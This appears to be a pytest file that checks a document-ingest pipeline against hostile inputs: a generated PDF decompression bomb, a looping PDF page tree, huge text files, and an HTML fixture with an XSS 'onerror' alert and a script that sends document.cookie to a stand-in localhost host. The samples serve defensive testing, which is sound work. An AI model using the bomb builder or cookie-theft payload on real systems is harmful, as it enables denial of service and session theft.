"""Hostile inputs: huge files, PDF bombs and loops, encodings, script-laden HTML."""

from __future__ import annotations

import time
import zlib
from pathlib import Path

import pytest

from app.settings import Settings
from ingest.errors import IngestError
from ingest.loaders import load_source
from ingest.pipeline import ingest
from vectorstore.store import Store

from .data.make_pdf import assemble

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _page(contents_ref: int) -> bytes:
    return (
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        f"/Resources << /Font << /F1 3 0 R >> >> /Contents {contents_ref} 0 R >>"
    ).encode()


def _flate_bomb(megabytes: int) -> bytes:
    """A content stream that inflates to ``megabytes`` MB of text-drawing operators."""
    comp = zlib.compressobj(9)
    block = b"BT /F1 9 Tf (" + b"A" * 1000 + b") Tj ET\n"
    piece = block * 1024  # ~1 MB
    body = b"".join(comp.compress(piece) for _ in range(megabytes)) + comp.flush()
    return (
        f"<< /Length {len(body)} /Filter /FlateDecode >>\nstream\n".encode() + body + b"\nendstream"
    )


@pytest.fixture
def tight(settings: Settings) -> Settings:
    """Small PDF limits so the protections trip quickly."""
    ingest_cfg = settings.ingest.model_copy(update={"pdf_timeout_s": 8.0, "pdf_memory_mb": 400})
    return settings.model_copy(update={"ingest": ingest_cfg})


@pytest.mark.slow
def test_pdf_decompression_bomb_is_stopped(tmp_path: Path, tight: Settings) -> None:
    bomb = tmp_path / "bomb.pdf"
    bomb.write_bytes(
        assemble(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
                FONT,
                _page(5),
                _flate_bomb(1500),
            ]
        )
    )
    assert bomb.stat().st_size < 20 * 1024 * 1024
    t0 = time.monotonic()
    with pytest.raises(IngestError) as err:
        load_source(str(bomb), tight.ingest)
    assert time.monotonic() - t0 < 20
    assert "PDF" in str(err.value)


def test_pdf_with_looping_page_tree_is_stopped(tmp_path: Path, tight: Settings) -> None:
    loop = tmp_path / "loop.pdf"
    loop.write_bytes(
        assemble(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 4 0 R] /Count 2 >>",  # the tree contains itself
                FONT,
                b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
            ]
        )
    )
    t0 = time.monotonic()
    with pytest.raises(IngestError):
        load_source(str(loop), tight.ingest)
    assert time.monotonic() - t0 < 15


def test_50mb_single_line_refused_by_cap(
    tmp_path: Path, settings: Settings, fake_embeddings
) -> None:
    big = tmp_path / "line.txt"
    with big.open("wb") as fh:
        for _ in range(50):
            fh.write(b"kata " * 209_716)
    t0 = time.monotonic()
    [result] = ingest([str(big)], settings.ingest, fake_embeddings, settings.store(fake_embeddings))
    assert result.status == "error" and "too large" in (result.error or "")
    assert time.monotonic() - t0 < 5
    assert Store.open(settings.store_settings, fake_embeddings).list_documents() == []


@pytest.mark.slow
def test_million_line_file_finishes_within_bound(
    tmp_path: Path, settings: Settings, fake_embeddings
) -> None:
    lines = tmp_path / "lines.txt"
    lines.write_text("".join(f"b{i % 97}\n" for i in range(1_000_000)), encoding="utf-8")
    t0 = time.monotonic()
    [result] = ingest(
        [str(lines)], settings.ingest, fake_embeddings, settings.store(fake_embeddings)
    )
    elapsed = time.monotonic() - t0
    assert elapsed < 120, elapsed
    assert result.status == "added" and result.chunks > 1000


def test_non_utf8_encodings_ingest_correctly(tmp_path: Path, settings: Settings) -> None:
    text = "Café São Paulo — naïve résumé, 80% pelanggan korporat. " * 5
    cp = tmp_path / "cp1252.txt"
    cp.write_bytes(text.encode("cp1252"))
    u16 = tmp_path / "utf16.txt"
    u16.write_bytes(text.encode("utf-16"))  # with BOM
    for path in (cp, u16):
        loaded = load_source(str(path), settings.ingest)
        assert "Café São Paulo — naïve résumé" in loaded.text


def test_script_laden_html_keeps_only_visible_text(tmp_path: Path, settings: Settings) -> None:
    page = tmp_path / "evil.html"
    page.write_text(
        """<!doctype html><html><head><title>Laporan Pasar</title>
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/steal">
<script>fetch('http://127.0.0.1:9/x?c='+document.cookie)</script></head>
<body><article><h1>Laporan Pasar</h1>
<p>Saham teknologi bergerak naik setelah laporan pendapatan kuartalan yang kuat.</p>
<img src="x" onerror="alert('xss')">
<iframe src="http://127.0.0.1:9/frame">iframe text SECRETFRAME</iframe>
<div style="display:none">HIDDENTEXT diam-diam</div><p hidden>HIDDENATTR</p>
<p>Para analis memperkirakan volatilitas tetap tinggi hingga akhir tahun ini.</p>
</article></body></html>""",
        encoding="utf-8",
    )
    text = load_source(str(page), settings.ingest).text
    assert "Saham teknologi" in text and "volatilitas" in text
    for bad in (
        "fetch(",
        "onerror",
        "alert",
        "SECRETFRAME",
        "HIDDENTEXT",
        "HIDDENATTR",
        "refresh",
        "<",
    ):
        assert bad not in text, bad


def test_random_bytes_rejected(tmp_path: Path, settings: Settings, fake_embeddings) -> None:
    import random

    rng = random.Random(7)
    for name in ("noise.txt", "noise.pdf"):
        (tmp_path / name).write_bytes(bytes(rng.randrange(256) for _ in range(8192)))
    results = ingest(
        [str(tmp_path / "noise.txt"), str(tmp_path / "noise.pdf")],
        settings.ingest,
        fake_embeddings,
        settings.store(fake_embeddings),
    )
    assert [r.status for r in results] == ["error", "error"]
    assert Store.open(settings.store_settings, fake_embeddings).list_documents() == []
